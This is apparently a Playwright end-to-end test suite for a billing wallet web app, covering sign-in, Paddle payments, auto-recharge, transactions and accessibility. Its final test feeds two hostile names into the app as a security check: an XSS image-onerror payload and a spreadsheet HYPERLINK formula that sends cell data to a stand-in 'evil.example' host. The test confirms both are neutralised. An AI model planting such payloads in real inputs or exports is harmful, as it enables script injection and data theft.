// The wallet page in a real browser, as people use it: with a real API, a real queue and worker, and Paddle's simulator behind it.
import { expect } from 'vitest'
import type { Page } from 'playwright-core'

import type { WorkspaceId } from '../../billing/ids.ts'
import { createProducer } from '../../jobs/producer.ts'
import { campaignRecords } from '../../scripts/demo/campaign-records.ts'
import { openWalletWithCard } from '../../scripts/drills/recharging-wallet.ts'
import { findBarriers } from '../support/barriers.ts'
import { givenUsage } from '../support/given-history.ts'
import {
  aCall,
  aMessage,
  callArrival,
  givenWorkspace,
  messageArrival,
  newWorkspaceId,
} from '../support/given.ts'
import { tabTo, tabToAndPress, tabToAndType } from '../support/keyboard.ts'
import { givenKey, test } from '../support/wallet-page.ts'

const enoughMs = 120_000

const views = [
  '/wallet',
  '/wallet/add-funds',
  '/wallet/auto-recharge',
  '/wallet/transactions',
  '/wallet/spend',
  '/wallet/numbers',
]

test(
  'a customer signs in, sees the balance fall as calls end, and signs out for good',
  async ({ db, openPage, site }) => {
    const workspaceId = await givenWorkspace(db)
    const page = await openPage({ origins: [site.url], forgiven: [/status of 422 .*sign-in/] })

    await page.goto('/wallet')
    expect(await findBarriers(page)).toEqual([])
    await tabToAndType(page, page.getByLabel('API key'), 'sk_call2me_not_one_of_ours')
    await page.keyboard.press('Enter')
    await page.getByRole('alert').getByText('This key is not one that is in force').waitFor()
    await page.getByLabel('API key').fill(await givenKey(db, workspaceId, 'read'))
    await page.keyboard.press('Enter')

    await page.locator('[data-balance]', { hasText: '$10.00' }).waitFor()
    await givenUsage(db, [callArrival(aCall(workspaceId, { durationSeconds: 100 }))])
    await page.locator('[data-balance]', { hasText: '$9.70' }).waitFor()
    await page.getByRole('cell', { name: '$9.70' }).waitFor()

    await tabToAndPress(page, page.getByRole('button', { name: 'Sign out' }))
    await page.getByText('You are signed out.').waitFor()
    await page.goBack()
    expect(await page.textContent('body')).not.toContain('9.70')
    await page.goto('/wallet')
    expect(page.url()).toContain('/wallet/sign-in')
  },
  enoughMs,
)

test(
  'a customer adds $50 by keyboard alone, and a page that was open already shows the money come',
  async ({ db, signIn, site }) => {
    const workspaceId = await givenWorkspace(db)
    const wallet = await signIn(workspaceId)
    const page = await wallet.context().newPage()

    await page.goto('/wallet')
    await tabToAndPress(page, page.getByRole('link', { name: 'Add funds', exact: true }))
    await page.waitForURL('/wallet/add-funds')
    await tabToAndPress(page, page.getByRole('button', { name: '$50', exact: true }), 'Space')
    await tabToAndType(page, page.getByLabel('E-mail for receipts'), 'payer@example.com')
    await tabTo(page, page.getByLabel('Country that you pay from'))
    await page.keyboard.type('Germany')
    await page.getByText('$59.50').waitFor()
    await tabToAndPress(page, page.getByRole('button', { name: 'Continue to payment' }))
    await page.waitForURL(`${site.paddle.url}/checkout/**`)
    await tabToAndPress(page, page.getByRole('button', { name: /^Pay / }))
    await tabToAndPress(page, page.getByRole('link', { name: 'Go back' }))

    await page.getByRole('heading', { name: '$50.00 is in the wallet' }).waitFor()
    await wallet.locator('[data-balance]', { hasText: '$60.00' }).waitFor()
    await wallet.getByRole('cell', { name: '+$50.00' }).waitFor()
  },
  enoughMs,
)

test(
  'a card that is declined costs nothing, and the page says so and what to do',
  async ({ db, signIn, site }) => {
    const page = await signIn(await givenWorkspace(db), { forgiven: [/status of 422 .*add-funds/] })

    await page.goto('/wallet/add-funds')
    await page.getByLabel('Amount', { exact: true }).fill('3')
    await page.getByLabel('E-mail for receipts').fill('payer@example.com')
    await page.getByRole('button', { name: 'Continue to payment' }).click()
    await page.locator('.problem').waitFor()
    expect(await findBarriers(page)).toEqual([])
    await page.getByLabel('Amount', { exact: true }).fill('25.50')
    await page.getByRole('button', { name: 'Continue to payment' }).click()
    await page.waitForURL(`${site.paddle.url}/checkout/**`)
    await page.getByLabel('Test card').selectOption({ value: '4000000000000002' })
    await page.getByRole('button', { name: /^Pay / }).click()
    await page.getByText('The card was declined').waitFor()
    await page.getByRole('link', { name: 'Cancel and go back' }).click()

    await page.getByRole('status').getByText('Declined').waitFor()
    await page.getByRole('link', { name: 'Continue at Paddle' }).waitFor()
    await page.goto('/wallet')
    expect(await page.textContent('[data-balance]')).toBe('$10.00')
  },
  enoughMs,
)

test(
  'auto-recharge is switched on by keyboard and with consent, and a campaign sets it off',
  async ({ db, place, signIn, site }) => {
    const workspaceId = await givenWorkspace(db)
    const page = await signIn(workspaceId, { forgiven: [/status of 422 .*auto-recharge/] })

    await tabToAndPress(page, page.getByRole('navigation').getByRole('link', { name: 'Auto-recharge' }))
    await tabToAndType(page, page.getByLabel('E-mail for receipts'), 'payer@example.com')
    await tabToAndPress(page, page.getByRole('button', { name: 'Save a card' }))
    await page.waitForURL(`${site.paddle.url}/checkout/**`)
    await tabToAndPress(page, page.getByRole('button', { name: 'Save card' }))
    await tabToAndPress(page, page.getByRole('link', { name: 'Go back' }))
    await page.getByText('Visa ending in 4242').first().waitFor()

    const switchOn = page.getByRole('button', { name: 'Switch auto-recharge on' })
    await tabToAndType(page, page.getByLabel('When less than this is available'), '9.50')
    await tabToAndType(page, page.getByLabel('Charge the card'), '20')
    await tabToAndPress(page, switchOn)
    await page.getByText('Tick this to switch auto-recharge on.').waitFor()
    await tabToAndPress(page, page.getByLabel('I agree that Visa ending in 4242 is charged'), 'Space')
    await tabToAndPress(page, switchOn)
    await page.getByText('Auto-recharge is on.').waitFor()
    await tabToAndPress(page, page.getByRole('navigation').getByRole('link', { name: 'Wallet' }))
    await page
      .getByText('When less than $9.50 is available, Visa ending in 4242 is charged $20.00.')
      .waitFor()
    await runCampaign(place, workspaceId)

    await page.getByRole('cell', { name: '+$20.00' }).waitFor()
    await page.goto('/wallet/auto-recharge')
    await page.getByRole('row', { name: /Auto-recharge Paid/ }).waitFor()
    await tabToAndPress(page, page.getByRole('button', { name: 'Switch it off' }))
    await page.getByText('Auto-recharge is off. The card is not charged any more.').waitFor()
  },
  enoughMs,
)

test(
  'switching it on below the threshold says what is charged at once, and a card that says no is explained',
  async ({ db, signIn, site }) => {
    const workspaceId = newWorkspaceId()
    await openWalletWithCard(db, site.paddle, workspaceId, '4000002760003184')
    const page = await signIn(workspaceId, { forgiven: [/status of 422 .*auto-recharge/] })

    await page.goto('/wallet/auto-recharge')
    await page.getByLabel('When less than this is available').fill('20')
    await page.getByLabel('Charge the card').fill('100')
    await page.getByLabel('I agree that').check()
    await page.getByRole('button', { name: 'Switch auto-recharge on' }).click()
    await page.getByRole('heading', { name: 'This charges the card $100 now' }).waitFor()
    expect(await findBarriers(page)).toEqual([])
    await page.getByLabel('Charge $100 now').check()
    await page.getByRole('button', { name: 'Switch auto-recharge on' }).click()
    await page.getByText('the card is being charged now').waitFor()

    await page.getByRole('heading', { name: 'The card was declined' }).waitFor()
    await page.getByRole('row', { name: /Declined/ }).waitFor()
    expect(await findBarriers(page)).toEqual([])
  },
  enoughMs,
)

test(
  'one call among many is found by keyboard, and its receipt can be followed by hand',
  async ({ db, signIn }) => {
    const workspaceId = await givenWorkspace(db)
    const calls = Array.from({ length: 60 }, () => callArrival(aCall(workspaceId)))
    const call = aCall(workspaceId, { durationSeconds: 61, recorded: true, agentId: 'Front desk' })
    await givenUsage(db, [...calls.slice(0, 30), callArrival(call), ...calls.slice(30)])
    const page = await signIn(workspaceId, { scope: 'read' })

    await tabToAndPress(page, page.getByRole('navigation').getByRole('link', { name: 'Transactions' }))
    await page.getByRole('heading', { name: '62 transactions' }).waitFor()
    await tabToAndType(page, page.getByLabel('Call', { exact: true }), call.callId)
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: '1 transaction found' }).waitFor()
    await tabToAndPress(page, page.getByRole('table').getByRole('link').first())
    await page.getByRole('heading', { name: 'Receipt' }).waitFor()

    const text = (await page.getByRole('main').innerText()).replaceAll(/\s+/g, ' ')
    expect(text).toContain('61 × 1 s × $0.10 / 60 s = $0.101666')
    expect(text).toContain('rounded half up: $0.101667')
    expect(text).toContain('$0.101667 + $0.081333 + $0.020333 = $0.203333')
    expect(text).toContain('It fits')
    expect(await findBarriers(page)).toEqual([])
  },
  enoughMs,
)

test(
  'whoever may only look sees everything and no button that changes anything',
  async ({ db, signIn, site }) => {
    const workspaceId = newWorkspaceId()
    await openWalletWithCard(db, site.paddle, workspaceId)
    const page = await signIn(workspaceId, { scope: 'read' })

    for (const view of views) {
      await page.goto(view)
      await page.getByRole('heading', { level: 1 }).waitFor({ state: 'attached' })
      expect(await page.locator('main form[method="post"]').count()).toBe(0)
      expect(await page.getByRole('link', { name: 'Add funds', exact: true }).count()).toBe(0)
    }
    await page.goto('/wallet/auto-recharge')
    await page.getByText('Visa ending in 4242').first().waitFor()
  },
  enoughMs,
)

test(
  'every view can be read in light and in dark, on a telephone, and without scripts',
  async ({ db, openPage, signIn, site }) => {
    const workspaceId = newWorkspaceId()
    await openWalletWithCard(db, site.paddle, workspaceId)
    await givenUsage(db, [
      callArrival(aCall(workspaceId, { agentId: 'Front desk', campaignId: 'Recall', recorded: true })),
      messageArrival(aMessage(workspaceId)),
    ])
    const page = await signIn(workspaceId, { width: 390 })
    const receipt = await addressOfReceipt(page)

    const barriers: string[] = []
    for (const view of [...views, receipt]) {
      await page.goto(view)
      barriers.push(...(await findBarriers(page)).map((line) => `${view}: ${line}`))
      // Colours are all that is other in the dark.
      await page.emulateMedia({ colorScheme: 'dark' })
      const dark = await findBarriers(page, { only: 'color-contrast' })
      barriers.push(...dark.map((line) => `${view} in the dark: ${line}`))
      await page.emulateMedia({ colorScheme: 'light' })
      const width = await page.evaluate<number>('document.documentElement.scrollWidth')
      if (width > 390) barriers.push(`${view} is ${width} wide`)
    }
    expect(barriers).toEqual([])

    const cookies = await page.context().cookies()
    const plain = await openPage({ origins: [site.url], javaScript: false })
    await plain.context().addCookies(cookies)
    await plain.goto('/wallet')
    expect(await plain.textContent('[data-balance]')).toMatch(/^\$9\.\d\d$/)
    await plain.getByRole('link', { name: 'Transactions', exact: true }).click()
    await plain.getByRole('heading', { name: '3 transactions' }).waitFor()
  },
  enoughMs,
)

test(
  'hostile names do no harm, on no view and in no spreadsheet',
  async ({ db, signIn }) => {
    const workspaceId = await givenWorkspace(db)
    const agentId = '<img src=x onerror=alert(1)>'
    const campaignId = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
    await givenUsage(db, [callArrival(aCall(workspaceId, { agentId, campaignId }))])
    const page = await signIn(workspaceId, { scope: 'read' })
    let dialogs = 0
    page.on('dialog', async (dialog) => {
      dialogs += 1
      await dialog.dismiss()
    })

    await page.getByRole('link', { name: agentId }).click()
    await page.getByRole('heading', { name: '1 transaction found' }).waitFor()
    expect(await page.getByLabel('Agent').inputValue()).toBe(agentId)
    const receipt = await addressOfReceipt(page)
    for (const view of [...views, receipt]) {
      await page.goto(view)
      expect(await page.locator('main img').count()).toBe(0)
    }
    await page.goto('/wallet/transactions')
    const download = page.waitForEvent('download')
    await page.getByRole('link', { name: 'Download as CSV' }).click()
    const csv = await textOf(await download)

    expect(dialogs).toBe(0)
    expect(csv).toContain(agentId)
    // A cell that begins with an apostrophe is text to every spreadsheet.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""Refund"")"`)
  },
  enoughMs,
)

/** Through the public producer and the queue, as telephony would. */
async function runCampaign(
  place: { redisUrl: string; queuePrefix: string },
  workspaceId: WorkspaceId,
): Promise<void> {
  const producer = createProducer(place.redisUrl, { prefix: place.queuePrefix })
  const records = campaignRecords({
    records: 25,
    seed: 1,
    workspaceId,
    campaignId: 'campaign_recall',
    endedAt: new Date(),
  })
  await Promise.all([...records].map(({ kind: _kind, ...call }) => producer.callEnded(call)))
  await producer.close()
}

/** Of the newest transaction. */
async function addressOfReceipt(page: Page): Promise<string> {
  await page.goto('/wallet/transactions')
  return (await page.getByRole('table').getByRole('link').first().getAttribute('href')) ?? ''
}

async function textOf(download: { createReadStream: () => Promise<NodeJS.ReadableStream> }): Promise<string> {
  let text = ''
  for await (const part of await download.createReadStream()) text += String(part)
  return text
}
